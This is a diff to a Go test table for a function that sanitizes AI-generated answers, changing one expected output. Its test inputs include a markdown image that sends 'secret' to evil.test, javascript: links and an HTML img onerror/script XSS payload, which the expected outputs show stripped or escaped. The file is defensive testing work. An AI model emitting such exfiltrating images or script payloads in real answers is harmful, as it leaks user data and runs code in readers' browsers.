@@ -165,7 +165,7 @@ func TestAnswer(t *testing.T) {
 		{"cut by its limit", "A volume keeps the data of a container [Source 1]. Back it u", llm.FinishLength, "A volume keeps the data of a container [Source 1].", false},
 		{"image", "See ![volume](https://evil.test/?q=secret) [Source 1].", llm.FinishStop, "See volume [Source 1].", false},
 		{"link", "Read [the page](https://docs.test/a) and [this](javascript:alert(1)).", llm.FinishStop, "Read the page (address left out: no source has it) and this).", false},
-		{"reference", "See ![a][1] and [b][1].\n\n[1]: https://evil.test/x.png", llm.FinishStop, "See a and b.", false},
+		{"reference", "See ![a][1] and [b][1].\n\n[1]: https://evil.test/x.png", llm.FinishStop, "See a and b.\n\n[1] : (address left out: no source has it)", false},
 		{"HTML", `Hi <img src=x onerror=alert(1)><script>x</script> \<b>`, llm.FinishStop, `Hi \<img src=x onerror=alert(1)>\<script>x\</script> \<b>`, false},
 		{"nested", "[![x](https://evil.test/i.png)](https://evil.test/)", llm.FinishStop, "x (address left out: no source has it)", false},
 		{"known address", "See [it](https://wiki.test/volume), `https://wiki.test`. Write to a@evil.test.", llm.FinishStop, "See it `https://wiki.test/volume`, `https://wiki.test`. Write to (address left out: no source has it).", false},
